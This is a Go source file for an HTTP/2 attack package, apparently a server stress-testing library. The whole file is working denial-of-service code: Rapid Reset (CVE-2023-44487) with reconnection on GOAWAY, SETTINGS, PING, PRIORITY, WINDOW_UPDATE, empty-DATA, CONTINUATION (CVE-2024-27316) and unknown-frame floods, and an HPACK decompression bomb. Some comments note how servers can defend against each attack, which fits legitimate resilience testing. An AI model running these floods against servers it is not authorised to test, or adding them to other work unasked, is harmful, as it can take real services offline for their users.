package h2attack

import (
	"context"
	"fmt"
	"strings"

	"github.com/hotpathhq/hotpath/wire/h2"
)

// Floods.

// RapidReset (CVE-2023-44487) keeps Config.Conns connections (default
// 4) busy opening streams, each a GET of Config.Path (default
// /delay/30000) cancelled at once with RST_STREAM (CANCEL), with rising
// stream identifiers, until ctx ends. As a real attacker would, it
// reconnects whenever the server sends GOAWAY or closes a connection.
// Result.Streams counts the streams opened, Result.GoAways the GOAWAYs.
// A server should bound the handlers that run per connection (their
// streams are gone, but a handler that ignores its context runs on) and
// cut connections that reset too fast.
func RapidReset(ctx context.Context, cfg Config) (Result, error) {
	return reconnecting(ctx, cfg, "rapid-reset", func(ctx context.Context, c *conn, path string) {
		c.burst(ctx, func(b []byte, id uint32, blk []byte) []byte {
			b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, blk, 0)
			return h2.AppendRSTStream(b, id, h2.ErrCodeCancel)
		})
	})
}

// floodFrames is how many frames a flood sends in one write.
const floodFrames = 100

// flood runs a flood: setup (may be nil) once, then the writes batch
// returns (called under wmu), as fast as the server reads them, until
// ctx ends or the server sends GOAWAY or closes; then it waits up to
// Config.Reply for the server to close (unless Config.LeaveOnGoAway).
func flood(ctx context.Context, cfg Config, name string, setup func(c *conn) error, batch func(c *conn) []byte) (Result, error) {
	r := newRun(name, cfg)
	c, err := r.dial(ctx, dialOpts{credit: true})
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	if setup != nil {
		if err := setup(c); err != nil {
			return r.result(), err
		}
	}
	r.onHold()
	for ctx.Err() == nil && !c.isClosed() && !c.sawGoAway() {
		c.wmu.Lock()
		b := batch(c)
		err := c.writeLocked(b)
		c.wmu.Unlock()
		if err != nil || len(b) == 0 {
			break
		}
	}
	if !cfg.LeaveOnGoAway || !c.sawGoAway() {
		c.waitFor(ctx, cfg.reply(), func() bool { return c.closed })
	}
	return r.result(), c.err()
}

// repeat returns a batch of floodFrames frames that frame appends.
func repeat(frame func(b []byte) []byte) func(c *conn) []byte {
	var b []byte
	for range floodFrames {
		b = frame(b)
	}
	return func(*conn) []byte { return b }
}

// WindowUpdateFlood sends WINDOW_UPDATE frames of increment 1 on the
// connection, as fast as the server reads them.
func WindowUpdateFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "window-update-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendWindowUpdate(b, 0, 1)
	}))
}

// unknownType is a frame type no RFC defines, which a receiver must
// ignore (RFC 9113 §4.1, §5.5).
const unknownType h2.FrameType = 0xfa

// UnknownFrameFlood sends empty frames of an undefined type (0xfa) on
// stream 0, which the server must ignore, as fast as it reads them.
func UnknownFrameFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "unknown-frame-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendFrameHeader(b, h2.FrameHeader{Type: unknownType})
	}))
}

// SettingsFlood (CVE-2019-9515) sends empty SETTINGS frames, each of
// which the server must acknowledge, reading every acknowledgement.
func SettingsFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "settings-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendSettings(b)
	}))
}

// PingFlood (CVE-2019-9512) sends PINGs, each of which the server must
// answer, reading every answer.
func PingFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "ping-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendPing(b, 0, [8]byte{'f', 'l', 'o', 'o', 'd'})
	}))
}

// PriorityFlood sends PRIORITY frames for an idle stream (3, depending
// on 1), which carry no request.
func PriorityFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "priority-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendPriority(b, 3, h2.Priority{StreamDep: 1, Weight: 15})
	}))
}

// EmptyDataFlood (CVE-2019-9518) opens a POST (Config.Path, default
// /discard) and sends empty DATA frames without END_STREAM on it.
func EmptyDataFlood(ctx context.Context, cfg Config) (Result, error) {
	var id uint32
	setup := func(c *conn) (err error) {
		id, err = c.request("POST", cfg.path("/discard"), false, nil)
		return err
	}
	var b []byte
	return flood(ctx, cfg, "empty-data-flood", setup, func(*conn) []byte {
		if b == nil {
			for range floodFrames {
				b = h2.AppendData(b, id, 0, nil, 0)
			}
		}
		return b
	})
}

// ContinuationFlood (CVE-2024-27316) opens a GET (Config.Path, default
// "/") whose HEADERS lack END_HEADERS, then sends CONTINUATION frames
// without END_HEADERS forever, each a small valid field (x-a: b), so that
// the block stays well-formed HPACK wherever it is cut.
func ContinuationFlood(ctx context.Context, cfg Config) (Result, error) {
	var id uint32
	setup := func(c *conn) error {
		c.wmu.Lock()
		defer c.wmu.Unlock()
		id = c.nextID
		c.nextID += 2
		c.scratch = c.requestBlockLocked("GET", cfg.path("/"))
		c.r.streams.Add(1)
		return c.writeLocked(h2.AppendHeaders(nil, id, h2.FlagEndStream, h2.Priority{}, c.scratch, 0))
	}
	field := appendLiteral(nil, "x-a", "b")
	var b []byte
	return flood(ctx, cfg, "continuation-flood", setup, func(*conn) []byte {
		if b == nil {
			for range floodFrames {
				b = h2.AppendContinuation(b, id, 0, field)
			}
		}
		return b
	})
}

// bombRefs is how many times an HPACK bomb block refers to its entry.
const bombRefs = 4000

// HPACKBomb opens GET streams ("/", or Config.Path) whose header block
// refers bombRefs (4000) times to one dynamic table entry that fills the
// server's table (a 4 KB value with the default HEADER_TABLE_SIZE): the
// first block inserts the entry, each 4 KB block decodes to some 16 MB.
// It sends them as fast as the server reads them. A server should stop
// decoding at its header list limit: answer 431 at little cost, or end
// the connection (ENHANCE_YOUR_CALM, COMPRESSION_ERROR).
//
// Its blocks are written by hand (the entry is inserted behind the
// connection's h2.Encoder's back), with no other use of the table.
func HPACKBomb(ctx context.Context, cfg Config) (Result, error) {
	const name = "x-bomb"
	var block, first []byte
	setup := func(c *conn) error {
		table := uint32(h2.DefaultMaxTableSize)
		if v, ok := c.setting(h2.SettingHeaderTableSize); ok {
			table = v
		}
		if table < 32+uint32(len(name))+1 {
			return fmt.Errorf("h2attack: hpack-bomb: the server's HEADER_TABLE_SIZE (%d) holds no entry", table)
		}
		block = appendRawRequest(nil, c.scheme, c.authority, cfg.path("/"))
		first = appendInsert(append([]byte(nil), block...), name, strings.Repeat("b", int(table)-32-len(name)))
		for range bombRefs {
			block = appendIndexed(block, firstDynamicIndex)
			first = appendIndexed(first, firstDynamicIndex)
		}
		return nil
	}
	var b []byte
	return flood(ctx, cfg, "hpack-bomb", setup, func(c *conn) []byte {
		blk := block
		if first != nil {
			blk, first = first, nil
		}
		id := c.nextID
		if id > h2.MaxStreamID {
			return nil
		}
		c.nextID += 2
		c.r.streams.Add(1)
		b = h2.AppendHeaderBlock(b[:0], id, true, blk, h2.DefaultMaxFrameSize)
		return b
	})
}
